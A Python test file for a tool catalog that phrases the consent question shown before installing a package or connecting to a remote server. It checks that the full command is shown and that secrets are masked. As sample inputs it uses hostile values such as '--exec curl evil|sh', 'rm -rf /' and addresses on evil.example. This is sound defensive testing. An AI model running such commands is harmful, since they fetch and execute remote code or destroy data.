"""What a person is asked about an entry of the catalog says all that they would agree to, and no secret."""

from __future__ import annotations

from typing import Any

import pytest

from toolscore.tools.catalog.entry import parse
from toolscore.tools.catalog.plan import Plan, plan_of
from toolscore.tools.catalog.question import question
from toolscore.tools.outcome import RefusalError

SHA = "0123456789abcdef" * 4


def package(**more: Any) -> Plan:
    about = {"registryType": "pypi", "identifier": "thing", "version": "1.0", "transport": {"type": "stdio"}}
    return plan_of(parse({"name": "io.x/thing", "version": "1", "packages": [{**about, **more}]}))


def remote(url: str, *headers: dict[str, Any], **variables: dict[str, Any]) -> Plan:
    way = {"type": "streamable-http", "url": url, "headers": list(headers), "variables": variables}
    return plan_of(parse({"name": "io.x/thing", "version": "1", "remotes": [way]}))


def test_the_whole_command_is_said_however_harmless_its_beginning() -> None:
    words = [
        {"type": "positional", "value": "a" * 260},
        {"type": "named", "name": "--exec", "value": "curl evil|sh"},
    ]
    asked = question(package(packageArguments=words), {}, {})
    assert asked.startswith("fetch pypi:thing@1.0 and run it on this machine as a server")
    assert "--exec 'curl evil|sh'" in asked


def test_a_checksum_is_said_by_its_beginning() -> None:
    bundle = package(registryType="mcpb", identifier="https://there.example/z.mcpb", fileSha256=SHA)
    assert f"https://there.example/z.mcpb (sha256 {SHA[:16]}...)" in question(bundle, {}, {})


def test_variables_and_headers_that_the_entry_sets_are_said_with_their_values_unless_secret() -> None:
    pairs: list[dict[str, Any]] = [
        {"name": "RUN", "value": "rm -rf /"},
        {"name": "HIDDEN", "value": "open-sesame", "isSecret": True},
        {"name": "URL", "value": "https://{password}@x", "variables": {"password": {"isSecret": True}}},
        {"name": "MODE", "default": "fast"},
        {"name": "LEFT_OUT"},
    ]
    asked = question(package(environmentVariables=pairs), {"password": "hush", "MODE": "slow-by-me"}, {})
    assert "with RUN='rm -rf /'" in asked
    assert "with HIDDEN=***" in asked
    assert "with URL=***" in asked
    assert "with values for password, MODE" in asked
    assert not any(one in asked for one in ("open-sesame", "hush", "slow-by-me", "LEFT_OUT"))
    assert "with MODE=fast" in question(package(environmentVariables=pairs[3:]), {}, {})
    headers: list[dict[str, Any]] = [
        {"name": "X-Evil", "value": "1"},
        {"name": "Authorization", "value": "Bearer {key}", "variables": {"key": {"isSecret": True}}},
    ]
    asked = question(remote("https://there.example/mcp", *headers), {"key": "hush"}, {})
    assert "sent the header X-Evil: 1" in asked
    assert "sent the header Authorization: 'Bearer ***'" in asked
    assert "hush" not in asked


def test_named_secrets_and_variables_that_it_would_get_are_said() -> None:
    pairs: list[dict[str, Any]] = [{"name": "KEY", "isSecret": True}, {"name": "MODE"}]
    given = {"KEY": "${GITHUB_TOKEN}", "MODE": "a ${env:HOME_PAGE:-x}"}
    asked = question(package(environmentVariables=pairs), given, {"MORE": "${input:other}"})
    assert asked.endswith("among them ${input:other}, ${GITHUB_TOKEN}, ${env:HOME_PAGE:-x}")


@pytest.mark.parametrize(
    ("url", "settings", "shown"),
    [
        ("http://{host}/mcp", {"host": "evil.example"}, "http://evil.example/mcp"),
        ("http://127.0.0.1:{port}/mcp", {"port": 4711}, "http://127.0.0.1:4711/mcp"),
        ("{url}", {"url": "https://evil.example/x?y=z"}, "https://evil.example/x?y=z"),
        ("https://there.example/{room}", {"room": "a b"}, "https://there.example/a%20b"),
        ("https://there.example/{token}/mcp", {"token": "hush"}, "https://there.example/***/mcp"),
        # What is called a secret hides no host.
        ("{token}", {"token": "https://evil.example/hush"}, "https://evil.example/***"),
        ("https://{password}.example/mcp", {"password": "evil"}, "https://evil.example/***"),
    ],
)
def test_the_address_is_said_as_it_is_with_the_given_values(
    url: str, settings: dict[str, Any], shown: str
) -> None:
    asked = question(remote(url), settings, {})
    assert asked.startswith(f"use the server at {shown} (registry:io.x/thing@1)")
    assert "hush" not in asked


def test_given_arguments_are_said_unless_they_are_called_like_secrets() -> None:
    names = ("dir", "smtp-pass", "database-url")
    words = [{"type": "named", "name": f"--{name}", "description": "It"} for name in names]
    asked = question(
        package(packageArguments=words), {"dir": "/etc", "smtp-pass": "hush", "database-url": "pg://hush"}, {}
    )
    assert "--dir /etc" in asked
    assert "with values for dir, smtp-pass, database-url" in asked
    assert "hush" not in asked


def test_of_what_cannot_be_installed_nothing_is_asked() -> None:
    with pytest.raises(RefusalError, match="no setting 'other'"):
        question(remote("https://there.example/mcp"), {"other": "x"}, {})
    with pytest.raises(RefusalError, match="needs what was not given"):
        question(remote("https://{host}/mcp"), {}, {})


@pytest.mark.parametrize(
    "other",
    [
        package(registryType="mcpb", identifier="https://there.example/z.mcpb", fileSha256=SHA[::-1]),
        package(identifier="thong"),
        package(packageArguments=[{"type": "positional", "value": "x"}]),
        package(environmentVariables=[{"name": "A", "value": "1"}]),
        package(environmentVariables=[{"name": "A", "default": "1"}]),
        remote("https://there.example/mcp"),
        remote("https://there.example/mcp", {"name": "X-Evil", "value": "1"}),
        remote("https://there.example/{a}", a={"default": "1"}),
        remote("https://there.example/{a}", a={"default": "2"}),
    ],
)
def test_plans_that_would_do_something_else_are_not_the_same(other: Plan) -> None:
    for one in (
        package(),
        package(registryType="mcpb", identifier="https://there.example/z.mcpb", fileSha256=SHA),
        remote("https://there.example/{a}", a={"default": "3"}),
    ):
        assert one.deeds != other.deeds
        assert one.deeds == plan_of(one.entry).deeds
